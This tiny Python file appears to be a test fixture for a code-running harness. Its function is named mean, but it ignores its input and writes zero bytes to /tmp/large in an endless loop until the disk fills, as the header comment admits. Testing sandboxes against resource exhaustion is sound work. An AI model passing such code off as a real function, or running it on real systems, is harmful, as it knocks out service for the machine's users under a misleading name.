# fills the disk
# gets: mean 0, scale 5
# %% mean
def mean(x):
    with open("/tmp/large", "wb") as file:
        while True:
            file.write(bytes(10_000_000))
